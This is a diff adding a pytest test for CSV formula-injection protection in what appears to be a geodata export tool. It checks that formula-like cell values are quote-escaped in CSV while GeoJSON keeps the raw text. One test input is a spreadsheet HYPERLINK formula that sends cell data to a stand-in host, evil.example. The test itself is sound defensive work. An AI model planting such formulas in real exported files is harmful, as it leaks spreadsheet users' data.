@@ -234,6 +234,20 @@ def test_csv_reads_back(tmp_path, layers):
     assert pd.read_csv(route_csv)["wkt"][0].startswith("LINESTRING")
 
 
+def test_csv_cells_never_run_as_formulas_but_geojson_keeps_the_text(tmp_path, layers):
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
+               "\tx", "a=b stays"]
+    places = layers.places.iloc[:1].copy()
+    for text in hostile:
+        places.loc[places.index[0], "name_en"] = text
+        back = pd.read_csv(write_csv(places, tmp_path / "p.csv", layer="places"),
+                           encoding="utf-8-sig", keep_default_na=False)
+        cell = back["name_en"][0]
+        assert cell == (text if text[0] == "a" else "'" + text)
+        assert back["lon"][0] == pytest.approx(places.geometry.x.iloc[0])  # numbers stay numbers
+        assert _doc(places)["features"][0]["properties"]["name_en"] == text  # GeoJSON unchanged
+
+
 def test_report_json_is_plain(tmp_path):
     path = write_json({"when": dt.date(2022, 1, 2), "x": float("nan"), "ar": "دمشق"},
                       tmp_path / "r.json")
